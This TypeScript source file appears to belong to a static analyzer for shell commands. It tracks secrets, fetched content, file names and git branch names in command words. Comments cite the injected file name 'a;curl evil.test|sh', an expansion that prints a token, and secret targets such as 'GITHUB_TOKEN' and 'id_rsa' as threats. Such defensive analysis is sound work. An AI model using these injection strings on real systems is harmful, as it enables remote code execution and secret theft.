import type { Yield } from './yields.ts';

/** A word of a command as far as it can be computed without running anything. */
export interface Word {
	/** The computed text; a piece that is unknown stands here as it was written. */
	readonly text: string;
	readonly known: boolean;
	/** The computed text before the first unknown piece: what the word certainly begins with. */
	readonly prefix: string;
	/** Holds pattern characters that the shell expands. */
	readonly pattern: boolean;
	/** Names of secret-looking variables whose values it holds. */
	readonly secrets: readonly string[];
	/** Holds a secret cut short or changed, so that comparing it tells the secret bit by bit. */
	readonly partial?: boolean;
	/** Holds a command substitution (leashd, CommandAnalyzer: subshell). */
	readonly substitutes: boolean;
	/** Names of secret-looking variables that expanding it prints, wherever it stands: `${x:?$TOKEN}`. */
	readonly told?: readonly string[];
	/** What it holds came from another machine. */
	readonly fetched: boolean;
	/** What it holds was decoded from something that cannot be read. */
	readonly decoded?: boolean;
	/** May become none or several words: an unquoted expansion or a pattern. */
	readonly many?: boolean;
	/** Somebody else chose the text that the pattern stands for: a match in a file, a name of a branch. It has no blanks and is no option. */
	readonly chosen?: boolean;
	/** Any number of words, options among them: it is not known, and not quoted. */
	readonly open?: boolean;
	/** Only one of two that are told: whether it is there at all cannot be known. */
	readonly either?: boolean;
	/** A file's name that is split at its own blanks: `for f in *; do rm $f; done`. */
	readonly loose?: boolean;
	/** A number, or nothing where no way has set it yet: arithmetic may read it. */
	readonly counts?: boolean;
	/** Stands for all files below a folder, hidden and ignored ones among them, as `find` lists them. */
	readonly whole?: boolean;
	/**
	 * Names of files as a program lists them, hidden ones among them. They are `split` at blanks, or one in each of the `lines` that are read.
	 */
	readonly listed?: 'split' | 'lines';
	/** Where those names were found, whatever has been made of them since. */
	readonly from?: Listing;
	/** No link is among those files. */
	readonly linkless?: boolean;
	/** What is odd among those files has been judged beside it. */
	readonly looked?: boolean;
	/** Assigns a list as it is written: `a=(1 2)`. */
	readonly isList?: boolean;
	/** The file whose text it is. */
	readonly file?: string;
	/** The program that it most likely names, where it is not known: `$(which rm)`, `$SHELL`. */
	readonly program?: string;
	/** A process substitution: its text is a pipe's name, its content is what a command prints. */
	readonly stream?: Stream;
}

/** What a program listed. */
export interface Listing {
	/** The files as a pattern; absolute, unless nobody can tell where the program ran. */
	readonly pattern: string;
	/** The word for them as it was printed; empty where their folder is left out: `ls src`. */
	readonly shown: string;
	readonly hidden: boolean;
}

/** What a command is fed, as far as it can be told. */
export interface Stream {
	/** The whole text, where it is constant. */
	readonly text?: string;
	/** What it held when it was opened, where how much of that is left is not known. */
	readonly held?: string;
	/** Comes, directly or through filters, from another machine. */
	readonly fetched: boolean;
	/** Was decoded or unpacked from something that cannot be read. */
	readonly decoded?: boolean;
	/** What it still shows of what the command before was fed. */
	readonly yields?: Yield;
	/** The file whose text it is. */
	readonly file?: string;
	/** The program whose path it most likely is. */
	readonly program?: string;
	/** The words that it holds, as far as their shape is known: names of files, as `find` prints them; a number. */
	readonly names?: readonly Word[];
}

/** A constant word. */
export function constant(text: string): Word {
	return { text, known: true, prefix: text, pattern: false, secrets: [], substitutes: false, fetched: false };
}

/** A word of which nothing is known but how it was written. */
export function unknown(source: string): Word {
	return { text: source, known: false, prefix: '', pattern: false, secrets: [], substitutes: false, fetched: false };
}

/** A word of which only is known that it came from another machine; of a list, that all of its words may. */
export function fetchedWord(source: string): Word {
	return { ...openWords(source), fetched: true };
}

/** Any number of words of which nothing is known. */
export function openWords(source: string): Word {
	return { ...unknown(source), many: true, open: true };
}

/** What stays true of values that are no longer certain: that they may hold a secret, or came from another machine. */
export function remains(source: string, values: readonly Word[] | undefined): readonly Word[] | undefined {
	const marked = values?.filter((word) => word.fetched || word.secrets.length > 0) ?? [];
	if (marked.length === 0) return undefined;
	const secrets = [...new Set(marked.flatMap((word) => word.secrets))];
	const fetched = marked.some((word) => word.fetched);
	const partial = marked.some((word) => word.partial === true);
	return [{ ...fetchedWord(source), fetched, secrets, ...(partial && { partial }) }];
}

/** What a word, or a part of one, still tells of the list that its names are from. */
export function listingOf(
	{
		listed,
		from,
		linkless,
	}: { listed?: Word['listed'] | undefined; from?: Listing | undefined; linkless?: boolean | undefined },
	how = listed,
): Pick<Word, 'listed' | 'from' | 'linkless'> {
	if (listed === undefined || how === undefined) return {};
	return { listed: how, ...(from && { from }), ...(linkless === true && { linkless }) };
}

/** A pattern, as `*.ts`: which files it names is not known, where they lie is. */
export function patternWord(text: string): Word {
	return { ...constant(text), pattern: true };
}

const tokenText = '[0-9a-z]*';

/** A number, a hash, a date: it can be no option and no way out of a directory, so it counts as a pattern. */
export const tokenWord: Word = patternWord(tokenText);

const numberText = '[0123456789]*';

/** A whole number. */
export const numberWord: Word = patternWord(numberText);

/** All that a list with keys holds, where that is numbers. */
export const countsWord: Word = { ...numberWord, many: true };

/** What a search matched that shows only what matches: which of the texts that the pattern allows stands there, whoever wrote the file chose. */
export function matchWord(text: string): Word {
	return { ...patternWord(text), chosen: true };
}

/** Letters, digits and `_` of a match. Threat: they may be `env` in code, `GITHUB_TOKEN` as a variable's name, `id_rsa` as a path. */
export const lettersText = '[0-9A-Za-z_]*';

const refText = '[0-9A-Za-z]**';

/**
 * The name of a branch, a tag or a remote's branch. Threat: whoever opens a pull request names it, and git lets it hold `$(`, `;`, `|`, quotes and
 * backticks; it cannot begin with a dash, hold a blank or lead out of a folder.
 */
export const refWord: Word = matchWord(refText);

/** Whether a word is the name of a branch or a tag as git printed it. */
export function isRefName({ text, pattern, chosen, many }: Word): boolean {
	return pattern && chosen === true && many !== true && text === refText;
}

/** Whether a word is no more than a number, a hash or a date. */
export function isToken(word: Pick<Word, 'text' | 'pattern'>): boolean {
	return word.pattern && (word.text === tokenText || word.text === numberText);
}

/**
 * Whether names of files were put into a word that is read as code. Threat: a name may hold a command, `a;curl evil.test|sh`, which whoever
 * wrote the code never saw.
 */
export function holdsNames({ text, pattern }: Pick<Word, 'text' | 'pattern'>): boolean {
	return pattern && /[*?[]/.test(text.replaceAll(tokenText, '').replaceAll(numberText, ''));
}

/** Whether a word is a whole number that is not known. */
export function isNumberWord({ text, pattern }: Pick<Word, 'text' | 'pattern'>): boolean {
	return pattern && text === numberText;
}

/** Whether a value is one whole number. */
export function isNumber(value: readonly Word[] | undefined): boolean {
	const [word, ...others] = value ?? [];
	return (
		word !== undefined &&
		others.length === 0 &&
		(isNumberWord(word) || (word.known && /^(0|[1-9]\d{0,17})$/.test(word.text)))
	);
}

/** A number, or nothing where none was set. */
export const countOrNothing = (name: string): Word => ({ ...unknown(`$${name}`), counts: true });

/** Whether arithmetic may read a value: a number, or what is one or empty. */
export function isCount(value: readonly Word[] | undefined): boolean {
	return isNumber(value) || (value?.length === 1 && value[0]?.counts === true);
}

/** Each of several matches, or names of branches, where a loop or `xargs -n1` takes one after the other. */
export function oneByOne(word: Word): Word {
	return word.chosen === true ? { ...word, many: false } : word;
}

/** What is one of several numbers, hashes or dates. */
export function oneOf(words: readonly Word[]): Word {
	return words.every(({ text }) => text === numberText || /^\d+$/.test(text)) ? numberWord : tokenWord;
}

/** A text in which each number that is not known is replaced by one. */
export function withNumbers({ text, pattern }: Word): string {
	return pattern ? text.replaceAll(numberText, '1') : text;
}

/** The place of a word in a list: `none` behind its end, `any` where words before it may be none or several. */
export function elementAt(list: readonly Word[], at: number): Word | 'none' | 'any' {
	if (list.slice(0, at + 1).some((word) => word.many === true)) return 'any';
	return list[at] ?? 'none';
}

/** A word as it would have to be typed, so that a text of several words reads back as the same words. */
export function spell(word: Word): string {
	if (!word.known || word.pattern) return word.text;
	if (/^[\w@%+=:,./~^-]+$/.test(word.text)) return word.text;
	return `'${word.text.replaceAll("'", "'\\''")}'`;
}
